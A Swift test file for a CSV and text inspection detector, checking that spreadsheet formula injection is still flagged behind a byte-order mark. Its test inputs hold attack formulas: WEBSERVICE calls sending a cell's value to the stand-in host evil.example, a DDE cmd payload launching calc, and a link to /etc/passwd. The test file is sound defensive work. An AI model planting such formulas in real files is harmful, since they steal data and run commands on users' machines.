import Foundation
import Testing

@testable import Inspection

/// Text that a spreadsheet treats as more than text (attack round 6).
struct TextRound6Tests {
    static let bom = "\u{FEFF}"

    /// Excel and LibreOffice take a UTF-8 byte-order mark as the encoding and drop it: the first cell after it is a
    /// cell like any other, in CSV and in text that is CSV under another name.
    @Test(arguments: [
        "=WEBSERVICE(\"https://evil.example/?\"&B1),secret\n",
        "=cmd|' /C calc'!A0,x\n",
        "=HYPERLINK(\"file:///etc/passwd\",\"open\")\n",
        " \"=WEBSERVICE(\"\"https://evil.example\"\")\",x\n",
        "sep=;\n=WEBSERVICE(\"https://evil.example\");x\n",
    ])
    func aFormulaAfterAByteOrderMarkIsFound(_ cells: String) {
        for marks in [Self.bom, Self.bom + Self.bom] {
            let text = Array((marks + cells).utf8)
            #expect(!TextActiveContent.formulaFindings(text, csv: true).isEmpty, "\(cells)")
            #expect(!TextActiveContent.findings(in: text, csv: true).isEmpty, "\(cells)")
            #expect(!TextActiveContent.findings(in: text).isEmpty, "as text: \(cells)")
        }
        // And without the mark, as before.
        #expect(!TextActiveContent.formulaFindings(Array(cells.utf8), csv: true).isEmpty, "\(cells)")
    }

    /// Ordinary exports that start with a byte-order mark stay clean.
    @Test func ordinaryFilesWithAByteOrderMarkStayClean() {
        for text in [
            Self.bom + "Name,Email,Joined\nAda,ada@example.com,2024-01-02\n",
            Self.bom + "sep=;\nName;Total\nAda;-12\n",
            Self.bom + "id\tamount\n1\t-3.5\n",
        ] {
            #expect(TextActiveContent.findings(in: Array(text.utf8), csv: true).isEmpty, "\(text)")
        }
    }
}
